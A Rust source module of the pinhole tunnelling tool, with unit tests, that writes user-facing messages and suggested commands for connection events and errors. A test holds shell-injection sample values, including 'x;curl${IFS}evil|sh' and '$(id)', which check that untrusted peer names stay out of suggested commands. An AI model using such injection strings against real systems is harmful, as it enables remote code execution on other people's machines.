//! The texts for users: what happened, why, and what to do about it.

mod search;

use std::{
    net::{Ipv6Addr, SocketAddr},
    time::Duration,
};

use pinhole::{
    Event,
    bind::{BindError, Protocol},
    endpoint::DEFAULT_PORT,
    forward::{HELD_CONNECTIONS, HELD_FOR, OpenSpec, ServeSpec},
    mux::BufferSizes,
    proto::{
        control::Services,
        key::PhraseError,
        puncher::{Connected, Loss, Method, SearchReport},
    },
    status::snapshot::Side,
};

pub(super) use self::search::{describe_trouble, find_public, no_path};
use super::message::Message;

/// Returns the line for an event, if the user should see one.
#[expect(clippy::wildcard_enum_match_arm, reason = "variants of a later version of the library")]
pub(super) fn describe(event: &Event) -> Option<String> {
    Some(match event {
        Event::Searching { peer, addresses } => waiting(peer, addresses),
        Event::Heard { .. } => return None,
        Event::Punched(connected) => punched(connected),
        Event::TunnelUp { .. } => "tunnel up".into(),
        Event::PeerServices(_) => return None,
        Event::PortReaches { listener, service } => {
            format!("{listener} reaches the peer's service {}", shown(service))
        }
        Event::ServiceMissing { listener, service, offered } => service_missing(*listener, service, offered),
        Event::HandshakeFailed { why } => {
            format!("the hole carries packets, but the tunnel did not come up ({why}): trying again")
        }
        Event::PathLost { loss } => path_lost(*loss),
        Event::PathBack { connected, after } => path_back(connected, *after),
        Event::PathChanged(c) => format!("now by a better path: {}, RTT {}", c.pair.remote, rtt(c.rtt)),
        Event::Displaced => "another pinhole with this key has taken this one's place, on this side of the tunnel; this one waits until that one ends".into(),
        Event::PeerGone => "the peer's program has ended without a goodbye; waiting for its return".into(),
        Event::TunnelLost(end) => format!("tunnel lost: {end}"),
        Event::PeerLeft => "peer left; waiting for its return".into(),
        Event::PeerRestarted => "peer restarted".into(),
        Event::Trouble(trouble) => describe_trouble(trouble),
        Event::Resolved { host, ok: false } => {
            format!("the name {host} does not resolve any more; using its last address")
        }
        Event::Resolved { host, ok: true } => format!("the name {host} resolves again"),
        Event::ConnectionRefused { listener, too_many: true } => format!(
            "refused a connection to {listener}: {HELD_CONNECTIONS} are waiting for the tunnel already"
        ),
        Event::ConnectionRefused { listener, too_many: false } => {
            format!("refused a connection to {listener}: no tunnel after {} s", HELD_FOR.as_secs())
        }
        Event::ServiceFailed { service, reply } => format!("service {service}: {reply}"),
        Event::ServiceBack { service } => format!("service {service} answers again"),
        Event::ConnectFailed { service, why } => {
            format!("cannot make connections to service {service} at the moment ({why}): {RAISE}")
        }
        Event::AcceptFailed { listener, why } => {
            format!("cannot take connections to {listener} at the moment ({why}): {RAISE}")
        }
        _ => return None,
    })
}

fn service_missing(listener: SocketAddr, service: &str, offered: &Services) -> String {
    let service = shown(service);
    if offered.names().is_empty() {
        return format!("{listener} reaches nothing: the peer offers no service at all");
    }
    let told =
        format!("{listener} reaches nothing: the peer offers {} and no {service}", names(offered.names()));
    match offered.names().iter().find(|name| is_word(name)) {
        Some(word) => {
            format!("{told}. To reach one of them: `pinhole open {}:{word} --peer PEER`", listener.port())
        }
        None => told,
    }
}

/// Whether a name of the peer's can stand in a command: no shell makes anything else of it, and no option begins with it.
fn is_word(name: &str) -> bool {
    let is_plain = |c: char| c.is_ascii_alphanumeric() || matches!(c, '.' | '_' | '-');
    name.chars().all(is_plain) && !name.is_empty()
}

/// Names that are shown of a longer list.
const NAMES: usize = 8;

/// Lists the names of the peer's services.
pub(super) fn names(names: &[String]) -> String {
    let listed: Vec<String> = names.iter().take(NAMES).map(|name| shown(name)).collect();
    let more = names.len().saturating_sub(NAMES);
    let more = if more > 0 { format!(" and {more} more") } else { String::new() };
    format!("{}{more}", listed.join(", "))
}

/// Shows a name that the peer has given: whatever could move a cursor, or is not seen, is written out; one that is no plain
/// word is quoted.
fn shown(name: &str) -> String {
    if is_word(name) { name.to_owned() } else { format!("\"{}\"", name.escape_debug()) }
}

/// What helps a side that is out of means, mostly.
pub(super) const RAISE: &str = "raise the limit of open files (`ulimit -n`)";

/// Ends a sentence that does not end by itself.
pub(super) fn sentence(text: &str) -> String {
    if text.ends_with(['.', '?']) { text.to_owned() } else { format!("{text}.") }
}

/// What always helps.
const FORWARD: &str = "forward the UDP port (5555 unless you named another) on either router to the machine behind it, or switch port randomisation (\"symmetric NAT\") off there";

fn waiting(peer: &str, addresses: &[SocketAddr]) -> String {
    let named: Vec<String> = addresses.iter().map(ToString::to_string).collect();
    if named.iter().any(|address| address == peer) || named.is_empty() {
        format!("waiting for the peer at {peer}")
    } else {
        format!("waiting for the peer at {peer} ({})", named.join(", "))
    }
}

fn punched(connected: &Connected) -> String {
    let seconds = connected.took.as_secs_f64();
    format!("hole punched in {seconds:.1} s: {}, RTT {}", connected.pair.remote, rtt(connected.rtt))
}

fn path_lost(loss: Option<Loss>) -> String {
    let why = match loss {
        Some(Loss::Silent(silent)) => format!("nothing heard for {:.1} s", silent.as_secs_f64()),
        Some(Loss::Aged) => return "renewing the path: the network here ends those of its age".into(),
        Some(Loss::Rerouted) => "this machine has another address".into(),
        Some(Loss::Moved) => "our router has given us another address".into(),
        Some(Loss::Blocked) => "it carries probes, and nothing of the tunnel".into(),
        None => "the peer punches again".into(),
    };
    format!("path lost ({why}): punching again, connections wait")
}

fn path_back(connected: &Connected, after: Duration) -> String {
    let (seconds, remote) = (after.as_secs_f64(), connected.pair.remote);
    format!("path is back after {seconds:.1} s: {remote}, RTT {}", rtt(connected.rtt))
}

/// A round trip's time with as many digits as mean something.
pub(super) fn rtt(rtt: Duration) -> String {
    let ms = rtt.as_secs_f64() * 1000.0;
    if ms < 10.0 { format!("{ms:.1} ms") } else { format!("{ms:.0} ms") }
}

/// A duration in the two largest units.
pub(super) fn span(time: Duration) -> String {
    let seconds = time.as_secs();
    match seconds {
        0..60 => format!("{seconds} s"),
        60..3600 => format!("{} min {} s", seconds / 60, seconds % 60),
        3600..86_400 => format!("{} h {} min", seconds / 3600, seconds / 60 % 60),
        _ => format!("{} d {} h", seconds / 86_400, seconds / 3600 % 24),
    }
}

pub(super) fn listening(address: SocketAddr, spec: &OpenSpec) -> Message {
    if spec.any {
        Message::Listening(address)
    } else {
        Message::ListeningFor { address, service: spec.service.clone() }
    }
}

pub(super) fn gave_up(wait: Duration, found: Option<&SearchReport>) -> String {
    let seconds = wait.as_secs_f64();
    match found {
        Some(found) => format!("no tunnel after {seconds} s, giving up: {}", no_path(&found.cause())),
        None => format!("no tunnel after {seconds} s: giving up"),
    }
}

/// Everything was read again, and the key stays: it has not changed, or what is there now is of no use.
pub(super) fn reread(useless: Option<&str>, addresses: &[SocketAddr]) -> Message {
    let key =
        useless.map_or_else(|| "key unchanged".into(), |why| format!("the former key stays in use ({why})"));
    let peers: Vec<String> = addresses.iter().map(|address| address.ip().to_string()).collect();
    let peer = match peers.as_slice() {
        [] => "the peer's name was not looked up in time".into(),
        peers => format!("peer {}", peers.join(", ")),
    };
    Message::ReRead { key, peer }
}

pub(super) fn small_buffers(granted: BufferSizes, wanted: usize) -> Message {
    Message::SmallBuffers { kib: granted.receive.min(granted.send) >> 10, wanted }
}

/// Adds the way out to a key that is none, with the words that are wrong if nobody else reads that.
pub(super) fn bad_key(error: PhraseError, for_own_eyes: bool) -> Message {
    let why = if for_own_eyes { error.with_words().to_string() } else { error.to_string() };
    match error {
        PhraseError::Weak(weak) => Message::WeakKey(weak),
        PhraseError::Foreign => Message::ForeignKey(why),
        PhraseError::Count { words: FORMER_WORDS, .. } => Message::KeyOfSixWords(why),
        PhraseError::Unknown(_)
        | PhraseError::Count { .. }
        | PhraseError::Swapped { .. }
        | PhraseError::Check(_) => Message::MistypedKey(why),
        PhraseError::Empty | PhraseError::TooLong | PhraseError::NotText => Message::NoKeyAtAll(why),
    }
}

/// Words of the keys that version 1 of the protocol had.
const FORMER_WORDS: usize = 6;

/// Adds the way out to a local port that cannot be had.
#[expect(clippy::wildcard_enum_match_arm, reason = "variants of a later version of the library")]
pub(super) fn explain_bind(error: &BindError) -> Message {
    let way_out = match error {
        BindError::InUse { protocol: Protocol::Udp, address } => format!(
            "is another pinhole running (`pinhole status` shows those of this user; one for `pinhole pipe` ends with the last pipe)? Otherwise use another port on both sides, for example {}",
            other_udp_port(address.port())
        ),
        BindError::InUse { protocol: Protocol::Tcp, address } if address.ip() == Ipv6Addr::LOCALHOST => {
            format!(
                "\"localhost\" leads many programs there. End that program, open another port, or open 127.0.0.1:{} alone",
                address.port()
            )
        }
        BindError::InUse { protocol: Protocol::Tcp, .. } => "end that program, or open another port".into(),
        BindError::Permission { protocol, address } => {
            let example = suggest_unprivileged(address.port());
            let both = if *protocol == Protocol::Udp { " on both sides" } else { "" };
            format!("use a port of 1024 or more{both}, for example {example}")
        }
        BindError::NotLocal { .. } => {
            "name one of its own (`ip address` lists them), or 0.0.0.0 for all of them".into()
        }
        BindError::Other { source, .. } => source.to_string(),
        _ => return Message::CannotBind { error: error.to_string(), way_out: String::new() },
    };
    Message::CannotBind { error: error.to_string(), way_out }
}

/// Another instance of this user has the UDP port: what it does, and what to do instead of a second one.
pub(super) fn port_of_pinhole(error: String, pid: u32, what: String, role: Side, port: u16) -> Message {
    let other = other_udp_port(port);
    let way_out = match role {
        Side::Open => format!(
            "To have more of that peer's services, end it and name all local ports in one `pinhole open 2222:22 8080:80 --peer PEER`; `pinhole pipe` uses it as it is (one that a pipe has started ends with the last pipe). Another peer needs another UDP port, on both sides, for example {other}"
        ),
        Side::Serve => format!(
            "To offer more to that peer, end it and name all services in one `pinhole serve 22 80 --peer PEER`. Another peer needs another UDP port, on both sides, for example {other}"
        ),
    };
    Message::PortOfPinhole { error, pid, what, way_out }
}

fn other_udp_port(taken: u16) -> u16 {
    taken.wrapping_add(1).max(1024)
}

/// Says how a pair was found, by the name of its method.
pub(super) fn method(name: &str) -> &str {
    match Method::named(name) {
        Some(Method::Base) => "at the ports that were named",
        Some(Method::Slot) => "at ports drawn from the key and the time",
        Some(Method::Reserve) => "at the ports kept in reserve",
        Some(Method::Fan) => "by many sockets here",
        Some(Method::Sweep) => "by trying many ports there",
        None => name,
    }
}

/// The command for the other side, with THIS_IP for what only its user knows.
pub(super) fn other_side(specs: &[ServeSpec], udp: u16) -> String {
    if let [only] = specs {
        let port = if udp == DEFAULT_PORT { String::new() } else { format!(" {udp}") };
        return format!("pinhole -l {} THIS_IP{port}", local_port(only));
    }
    let port = if udp == DEFAULT_PORT { String::new() } else { format!(" --port {udp}") };
    let specs: Vec<String> = specs.iter().map(|s| format!("{}:{}", local_port(s), s.name)).collect();
    format!("pinhole open {} --peer THIS_IP{port}", specs.join(" "))
}

/// A local port for a service.
fn local_port(spec: &ServeSpec) -> u16 {
    spec.target.port().map_or(8080, suggest_unprivileged)
}

/// A local port that needs no privileges and is easy to remember.
fn suggest_unprivileged(port: u16) -> u16 {
    match port {
        22 => 2222,
        80 => 8080,
        443 => 8443,
        DEFAULT_PORT => DEFAULT_PORT,
        0..1024 => port + 10_000,
        _ => port,
    }
}

#[cfg(test)]
mod tests {
    use pinhole::{Role, proto::puncher::Trouble};

    use super::*;

    #[test]
    fn spans_show_the_two_largest_units() {
        let shown = [5, 65, 3700, 90_000].map(|s| span(Duration::from_secs(s)));
        assert_eq!(shown, ["5 s", "1 min 5 s", "1 h 1 min", "1 d 1 h"]);
    }

    #[test]
    fn the_command_for_the_other_side_reaches_every_service() {
        let specs =
            |texts: &[&str]| texts.iter().map(|t| t.parse().expect("a spec")).collect::<Vec<ServeSpec>>();
        assert_eq!(other_side(&specs(&["22"]), 5555), "pinhole -l 2222 THIS_IP");
        assert_eq!(other_side(&specs(&["22"]), 6666), "pinhole -l 2222 THIS_IP 6666");
        let several = other_side(&specs(&["22", "web=printer:631"]), 6666);
        assert_eq!(several, "pinhole open 2222:22 10631:web --peer THIS_IP --port 6666");
    }

    #[test]
    fn a_name_of_the_peer_s_that_a_shell_would_not_take_as_a_word_is_in_no_command() {
        let listener = SocketAddr::from(([127, 0, 0, 1], 2222));
        let told = |names: &[&str]| service_missing(listener, "ssh", &Services::new(names.iter().copied()));
        let foul = "x;curl${IFS}evil|sh";
        assert!(
            told(&[foul]).ends_with(&format!("the peer offers \"{foul}\" and no ssh")),
            "{}",
            told(&[foul])
        );
        assert!(told(&[foul, "web"]).ends_with("`pinhole open 2222:web --peer PEER`"));
        for name in ["a`b", "$(id)", "a'b", "a\"b", "ä", ""] {
            assert!(!is_word(name), "{name}");
        }
    }

    #[test]
    fn what_the_peer_names_is_bounded_and_cannot_hide() {
        let many: Vec<String> = (1..=10).map(|n| n.to_string()).collect();
        assert_eq!(names(&many), "1, 2, 3, 4, 5, 6, 7, 8 and 2 more");
        assert_eq!(names(&["gr\u{202e}en".into(), "größe".into()]), "\"gr\\u{202e}en\", \"größe\"");
    }

    #[test]
    fn every_trouble_names_a_way_out() {
        let from = SocketAddr::from(([203, 0, 113, 9], 5555));
        let way_out = |trouble| describe_trouble(&trouble);
        assert!(way_out(Trouble::WrongKey { from }).contains("pinhole key show"));
        assert!(way_out(Trouble::SameRole { role: Role::Serve }).contains("-l"));
        assert!(way_out(Trouble::SameRole { role: Role::Open }).contains("-c"));
        assert!(way_out(Trouble::OwnEcho { from }).contains("the other"));
        let found = SearchReport::default();
        assert!(way_out(Trouble::NoPath(found)).contains("firewall"));
        let swept = SearchReport { has_swept: true, ..found };
        assert!(way_out(Trouble::NoPath(swept)).contains("forward the UDP port"));
        let moved = SearchReport { heard_from: Some(from), peer_port_moved: Some((5555, 61_000)), ..found };
        assert!(way_out(Trouble::NoPath(moved)).contains("61000"));
    }
}
